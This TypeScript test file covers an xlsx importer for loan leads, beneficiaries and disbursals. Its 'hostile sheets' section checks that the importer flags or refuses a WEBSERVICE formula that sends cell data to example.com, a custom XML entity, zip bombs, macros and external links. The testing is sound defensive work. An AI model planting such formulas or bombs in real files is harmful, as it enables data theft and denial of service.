import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { gstinFor } from '@poonji/integrations/businesses/identifiers.ts'
import { xlsxOf } from '../xlsx-of.ts'
import { rawXlsx, rowXml, sheetOf, sheetXml, zipBomb } from '../testing.ts'
import type { SheetKind } from '../../status.ts'
import { readRows, type ReadRow } from './read-rows.ts'
import { readInWorker } from './read-in-worker.ts'
import { SheetRefusal } from './refusal.ts'

const read = async (bytes: Uint8Array, kind: SheetKind = 'leads') => {
  const rows: ReadRow[] = []
  const notices = await readRows(Buffer.from(bytes), kind, row => rows.push(row))
  return { rows, notices }
}
const refusalOf = async (bytes: Uint8Array, kind: SheetKind = 'leads') => {
  try {
    await read(bytes, kind)
  } catch (error) {
    if (error instanceof SheetRefusal) return error.why
    throw error
  }
  return null
}
const HEAD = ['Company name', 'GSTIN', 'Contact name', 'Mobile', 'Email', 'Loan needed (₹)', 'Note']
const lead = { companyName: 'Konark Polymers', contactName: 'Asha Rao', contactMobile: '9811112222' }
const problemsOf = async (more: Record<string, string | number>) =>
  (await read(await sheetOf('leads', [{ ...lead, ...more }]))).rows[0]?.problems.map(one => [one.column, one.code])

describe('cells of a sheet', () => {
  test('what a spreadsheet program writes is read: texts, numbers, Hindi, entities, rows left empty', async () => {
    const gstin = gstinFor('27', 'ZZZCT1001K')
    const { rows } = await read(
      await sheetOf('leads', [
        { ...lead, gstin, contactMobile: 9_811_112_222, need: 640_000.5, note: 'A & B <खाता> "x"' },
        {},
        { ...lead, companyName: 'श्री गणेश ट्रेडर्स', contactMobile: '+91 98111 12223', need: '₹ 6,40,000' },
      ]),
    )
    assert.deepEqual(
      rows.map(row => [row.number, row.problems, row.values.contactMobile, row.values.need, row.values.note]),
      [
        [2, [], '9811112222', '640000.5', 'A & B <खाता> "x"'],
        [4, [], '9811112223', '640000', undefined],
      ],
    )
    assert.equal(rows[0]?.values.gstin, gstin)
    assert.equal(rows[1]?.values.companyName, 'श्री गणेश ट्रेडर्स')
  })

  test('columns are known by their titles in either language and any order; others are left out and named', async () => {
    const xml = sheetXml(
      rowXml(1, ['Mobile *', 'कंपनी का नाम *', 'What to do', 'Contact name', 'GST No', 'Mobile']) +
        rowXml(2, ['9811112222', 'Konark', 'Leave one of them', 'Asha Rao', '27AAPFU0939F1ZV', '']),
    )
    const { rows, notices } = await read(await rawXlsx(xml))
    assert.deepEqual(notices, [{ code: 'leftOut', titles: ['GST No', 'Mobile'] }])
    assert.deepEqual(rows[0]?.given, { contactMobile: '9811112222', companyName: 'Konark', contactName: 'Asha Rao' })
  })

  test('the titles may stand below the name of a list; without any, what is missing is named', async () => {
    const named = (rows: number) => [...Array.from({ length: rows }, () => ['Clients of November']), HEAD]
    const sheet = (rows: string[][]) => rawXlsx(sheetXml(rows.map((row, i) => rowXml(i + 1, row)).join('')))
    const client = ['Konark', '', 'Asha Rao', '9811112222']
    const { rows } = await read(await sheet([...named(2), client]))
    assert.deepEqual([rows.length, rows[0]?.number, rows[0]?.problems], [1, 4, []])
    assert.equal(await refusalOf(await sheet([...named(11), client])), 'columns')
    assert.equal(await refusalOf(await sheet([['Firm', 'Phone'], client])), 'columns')
    assert.equal(await refusalOf(await sheet([['Clients of November'], HEAD])), 'noRows')
  })

  test('a word of the titles may stand above them, and the titles once more below; what is missing is named by the nearest', async () => {
    const sheet = (rows: string[][]) => rawXlsx(sheetXml(rows.map((row, i) => rowXml(i + 1, row)).join('')))
    const client = ['Konark', '', 'Asha Rao', '9811112222']
    const hindi = ['कंपनी का नाम', 'GSTIN', 'संपर्क का नाम', 'मोबाइल', 'ईमेल', '', 'टिप्पणी']
    const { rows } = await read(
      await sheet([['Agarwal Finserve', 'GSTIN', '27AAPFU0939F1ZV'], HEAD, hindi, client, HEAD, client]),
    )
    assert.deepEqual(
      rows.map(row => [row.number, row.values.companyName]),
      [
        [4, 'Konark'],
        [6, 'Konark'],
      ],
    )
    const lacking = sheet([['GSTIN', '27AAPFU0939F1ZV'], ['Company name', 'Contact name', 'Phone'], client])
    await assert.rejects(lacking.then(read), { why: 'columns', detail: 'contactMobile' })
  })

  test('our own template is read again, in both languages, and each of its lists and notes is in it', async () => {
    for (const language of ['en', 'hi'] as const)
      for (const kind of ['leads', 'beneficiaries', 'disbursals'] as const) {
        const bytes = await xlsxOf(kind, language)
        assert.equal(await refusalOf(bytes, kind), 'noRows', `${kind} ${language}`)
      }
  })

  test('each wrong cell is named by what is wrong with it', async () => {
    assert.deepEqual(await problemsOf({ companyName: '...' }), [['companyName', 'companyName']])
    assert.deepEqual(await problemsOf({ gstin: '27ABCDE1234F1Z0' }), [['gstin', 'gstin']])
    assert.deepEqual(await problemsOf({ contactMobile: '12345' }), [['contactMobile', 'mobile']])
    assert.deepEqual(await problemsOf({ contactEmail: 'x@y' }), [['contactEmail', 'email']])
    assert.deepEqual(await problemsOf({ need: '₹ 5,00,000/-' }), [])
    for (const need of ['6,40,000.50', '१२,५०,०००', '1,00,00,000', '1,250,000', '12,345', 'Rs. 5,00,000 only'])
      assert.deepEqual(await problemsOf({ need }), [], need)
    for (const need of ['6,40,00', '5000,50', '1,2,3', '50,0000', '5,000,00', '10,00,000,'])
      assert.deepEqual(await problemsOf({ need }), [['need', 'amount']], need)
    assert.deepEqual(await problemsOf({ need: 'ten lakh' }), [['need', 'amount']])
    assert.deepEqual(await problemsOf({ need: 50_000_000 }), [['need', 'amountLimit']])
    assert.deepEqual(await problemsOf({ contactName: '' }), [['contactName', 'required']])
    assert.deepEqual(await problemsOf({ companyName: '', gstin: '' }), [['companyName', 'required']])
    assert.deepEqual(await problemsOf({ note: 'x'.repeat(501) }), [['note', 'tooLong']])
  })

  test('what says that there is nothing to write is nothing, where a cell may stay empty; a formula is named all the same', async () => {
    const row = { contactEmail: 'N/A', need: '–', note: 'nil' }
    const { rows } = await read(await sheetOf('leads', [{ ...lead, ...row, gstin: 'NA' }]))
    assert.deepEqual([rows[0]?.problems, rows[0]?.values], [[], lead])
    assert.deepEqual(await problemsOf({ contactMobile: 'NA' }), [['contactMobile', 'mobile']])
    assert.deepEqual(await problemsOf({ need: 'NAN' }), [['need', 'amount']])
    const formula = rowXml(2, ['Konark', '<c><f>1</f><v>-</v></c>', 'Asha Rao', '9811112222'])
    const named = await read(await rawXlsx(sheetXml(rowXml(1, HEAD) + formula)))
    assert.deepEqual(
      named.rows[0]?.problems.map(one => [one.column, one.code]),
      [['gstin', 'formula']],
    )
  })

  test('a cell of a text that has none is empty, and not the first text of the file', async () => {
    const strings = `<sst>${HEAD.map(title => `<si><t>${title}</t></si>`).join('')}</sst>`
    const xml = sheetXml(
      rowXml(1, HEAD) + rowXml(2, ['Konark', '', 'Asha Rao', '9811112222', '', '', '<c t="s"><v></v></c>']),
    )
    const { rows } = await read(await rawXlsx(xml, { 'xl/sharedStrings.xml': strings }))
    assert.deepEqual([rows[0]?.problems, rows[0]?.values.note], [[], undefined])
  })

  test('a date as strict Open XML writes it is a date too', async () => {
    const day = '<c t="d"><v>2026-11-01T00:00:00.000</v></c>'
    const xml = sheetXml(rowXml(1, HEAD) + rowXml(2, ['Konark', '', 'Asha Rao', '9811112222', '', day, day]))
    const { rows } = await read(await rawXlsx(xml))
    assert.deepEqual(
      rows[0]?.problems.map(one => [one.column, one.code]),
      [['need', 'madeDate']],
    )
    assert.deepEqual([rows[0]?.given.need, rows[0]?.values.note], ['01/11/2026', '01/11/2026'])
  })

  test('a yes or no of the spreadsheet is no amount and no name', async () => {
    const yes = '<c t="b"><v>1</v></c>'
    const xml = sheetXml(
      rowXml(1, HEAD) + rowXml(2, ['Konark', '<c t="b"></c>', 'Asha Rao', '9811112222', '', yes, yes]),
    )
    const { rows } = await read(await rawXlsx(xml))
    assert.deepEqual(
      rows[0]?.problems.map(one => [one.column, one.code]),
      [['need', 'amount']],
    )
    assert.deepEqual([rows[0]?.given.need, rows[0]?.values.note], ['TRUE', 'TRUE'])
  })

  test('a number that lost its last digits, a slip in an IFSC and a word that is not in the list are told apart', async () => {
    const row = { client: 'AAAPL1234C', holderName: 'Steel Co', number: 1234567890123456, ifsc: 'HDFCO000123' }
    const { rows } = await read(await sheetOf('beneficiaries', [{ ...row, accountType: 'Big' }]), 'beneficiaries')
    assert.deepEqual(
      rows[0]?.problems.map(one => [one.column, one.code, one.detail]),
      [
        ['number', 'rounded', undefined],
        ['ifsc', 'ifsc', 'HDFC0000123'],
        ['accountType', 'choice', undefined],
      ],
    )
  })

  test('a mobile or account that was shortened to its first digits is told so, as text and as a number; a whole one is read', async () => {
    const number = (value: string) => `<c><v>${value}</v></c>`
    const mobiles = ['9.81E+09', number('9.81E+09'), number('9.811112222E9'), number('9811112223.0')]
    const xml = sheetXml(
      rowXml(1, HEAD) + mobiles.map((one, i) => rowXml(i + 2, ['Konark', '', 'Asha Rao', one])).join(''),
    )
    const { rows } = await read(await rawXlsx(xml))
    assert.deepEqual(
      rows.map(row => [row.values.contactMobile, row.problems.map(one => one.code)]),
      [
        [undefined, ['rounded']],
        [undefined, ['rounded']],
        ['9811112222', []],
        ['9811112223', []],
      ],
    )
    assert.deepEqual(await problemsOf({ need: '1E5' }), [['need', 'amount']])
  })

  test('an invoice number that the spreadsheet made a date of is told so; a date in a note is read as it is shown', async () => {
    const styles = `<styleSheet><numFmts><numFmt numFmtId="164" formatCode="d\\-mmm"/><numFmt numFmtId="165" formatCode="&quot;day&quot; 0"/></numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="14"></xf><xf numFmtId="165"/></cellXfs></styleSheet>`
    const head = ['Loan number', 'Account to pay', 'IFSC', 'Amount (₹)', 'Invoice number', 'Note']
    const row = (invoice: string, note: string) => [
      'PJL-2026-90001',
      '123456789012',
      'HDFC0000001',
      '500',
      invoice,
      note,
    ]
    const number = (style: number) => `<c s="${style}"><v>46327</v></c>`
    const xml = sheetXml(rowXml(1, head) + rowXml(2, row(number(1), number(2))) + rowXml(3, row(number(3), number(0))))
    const { rows } = await read(await rawXlsx(xml, { 'xl/styles.xml': styles }), 'disbursals')
    assert.deepEqual(
      rows.map(({ given, values, problems }) => [
        given.invoice,
        values.note,
        problems.map(one => [one.column, one.code]),
      ]),
      [
        ['01/11/2026', '01/11/2026', [['invoice', 'madeDate']]],
        ['46327', '46327', []],
      ],
    )
  })

  test('signs that nobody sees, copied along from a phone, are left out; the joiners of Hindi stay', async () => {
    const name = 'क्\u200dषमा'
    const row = { companyName: '\ufeffKonark', contactName: name, contactMobile: '\u202a+91 98111 12222\u202c\u200b' }
    const { rows } = await read(await sheetOf('leads', [row]))
    assert.deepEqual(rows[0]?.problems, [])
    assert.deepEqual(rows[0]?.values, { companyName: 'Konark', contactName: name, contactMobile: '9811112222' })
  })

  test('the mark by which a number is kept as text is no part of it; an apostrophe in a name stays', async () => {
    const row = {
      companyName: "D'Souza Exports",
      contactName: 'Asha Rao',
      contactMobile: "'9811112222",
      need: '’5,00,000',
    }
    const { rows } = await read(await sheetOf('leads', [row]))
    assert.deepEqual(rows[0]?.problems, [])
    const { companyName, contactMobile, need } = rows[0]?.values ?? {}
    assert.deepEqual([companyName, contactMobile, need], ["D'Souza Exports", '9811112222', '500000'])
  })

  test('rows that are hidden, as by a filter, are read, and who sends the sheet is told', async () => {
    const row = (at: number, mobile: string) => rowXml(at, ['Konark', '', 'Asha Rao', mobile])
    const hide = (xml: string) => xml.replace('<row ', '<row hidden="1" ')
    const xml = rowXml(1, HEAD) + row(2, '9811112222') + hide(row(3, '9811112223')) + hide('<row r="4"></row>')
    const { rows, notices } = await read(await rawXlsx(sheetXml(xml)))
    assert.deepEqual([rows.length, notices], [2, [{ code: 'hiddenRows', rows: [3] }]])
  })

  test('the same GSTIN, PAN or mobile twice in a sheet names the row where it stands first', async () => {
    const gstin = gstinFor('27', 'ZZZCT1002K')
    const { rows } = await read(
      await sheetOf('leads', [
        { ...lead, gstin },
        { ...lead, gstin, contactMobile: '9811112223' },
        { ...lead, contactMobile: '9811112222' },
        { ...lead, gstin: gstinFor('24', 'ZZZCT1002K'), contactMobile: '9811112224' },
      ]),
    )
    assert.deepEqual(
      rows.map(row => row.problems.map(one => [one.column, one.code, one.detail])),
      [
        [],
        [['gstin', 'twiceInSheet', '2']],
        [['contactMobile', 'twiceInSheet', '2']],
        [['gstin', 'companyTwice', '2']],
      ],
    )
  })
})

describe('hostile sheets', () => {
  const filled = rowXml(1, HEAD) + rowXml(2, ['Konark', '', 'Asha Rao', '9811112222'])

  test('a formula never runs, whatever result it brings along; an error value is named', async () => {
    const formula = '<c t="str"><f>WEBSERVICE("http://example.com/"&amp;A1)</f><v>Konark</v></c>'
    const failed = '<c t="e"><v>#REF!</v></c>'
    const xml = sheetXml(rowXml(1, HEAD) + rowXml(2, [formula, '', failed, '9811112222']))
    const { rows } = await read(await rawXlsx(xml))
    assert.deepEqual(
      rows[0]?.problems.map(one => [one.column, one.code]),
      [
        ['companyName', 'formula'],
        ['contactName', 'errorValue'],
      ],
    )
    assert.equal(rows[0]?.values.companyName, undefined)
  })

  test('macros and links out are named and left alone', async () => {
    const more = { 'xl/vbaProject.bin': 'x', 'xl/externalLinks/externalLink1.xml': '<x/>' }
    const { rows, notices } = await read(await rawXlsx(sheetXml(filled), more))
    assert.deepEqual([rows.length, notices], [1, [{ code: 'macros' }, { code: 'externalLinks' }]])
  })

  test('entities of its own, a sheet that ends in the middle, and what is no sheet are broken', async () => {
    const bomb = `<!DOCTYPE a [<!ENTITY x "aaaa">]>${sheetXml(filled)}`
    assert.equal(await refusalOf(await rawXlsx(bomb)), 'broken')
    assert.equal(await refusalOf(await rawXlsx(sheetXml(filled).slice(0, -40))), 'broken')
    assert.equal(await refusalOf(Buffer.from('PK not a zip')), 'broken')
    const good = await rawXlsx(sheetXml(filled))
    assert.equal(await refusalOf(good.subarray(0, good.length - 60)), 'broken')
    assert.equal(await refusalOf(await rawXlsx(`<a>${'x'.repeat(500_000)}`)), 'broken')
  })

  test('a million columns, too many rows, no rows, and missing columns each have their answer', async () => {
    const wide = function* () {
      yield '<worksheet><sheetData><row r="1">'
      for (let i = 0; i < 1_000; i++) yield '<c><v>1</v></c>'.repeat(1_000)
      yield '</row></sheetData></worksheet>'
    }
    assert.equal(await refusalOf(await rawXlsx(wide())), 'tooManyColumns')
    const long = function* () {
      yield `<worksheet><sheetData>${rowXml(1, HEAD)}`
      for (let i = 0; i < 101; i++)
        yield Array.from({ length: 1_000 }, (_, j) => rowXml(2 + i * 1_000 + j, ['K', '', 'A', '1'])).join('')
      yield '</sheetData></worksheet>'
    }
    assert.equal(await refusalOf(await rawXlsx(long())), 'tooManyRows')
    assert.equal(await refusalOf(await rawXlsx(sheetXml(rowXml(1, HEAD)))), 'noRows')
    assert.equal(await refusalOf(await rawXlsx(sheetXml(rowXml(1, ['Name', 'Phone'])))), 'columns')
  })

  test('a zip bomb is refused where it crosses its cap and kept nowhere, also one that lies about its size', async () => {
    for (const [bytes, why] of [
      [await zipBomb(), 'tooBig'],
      [await zipBomb(5_000), 'broken'],
    ] as const) {
      const before = process.memoryUsage().rss
      assert.equal(await refusalOf(bytes), why)
      assert.ok(process.memoryUsage().rss - before < 50_000_000)
    }
  })

  test('in the thread a refusal is the same, and what needs too much memory is refused, not fatal', async () => {
    const none = () => Promise.resolve()
    const why = (expected: string) => (error: unknown) => error instanceof SheetRefusal && error.why === expected
    const big = await zipBomb()
    await assert.rejects(() => readInWorker(big, 'leads', none), why('tooBig'))
    await assert.rejects(() => readInWorker(Buffer.from('nothing'), 'leads', none), why('broken'))
    const fault = new Error('the database is away')
    const good = await rawXlsx(sheetXml(filled))
    await assert.rejects(() => readInWorker(good, 'leads', () => Promise.reject(fault)), fault)
  })
})
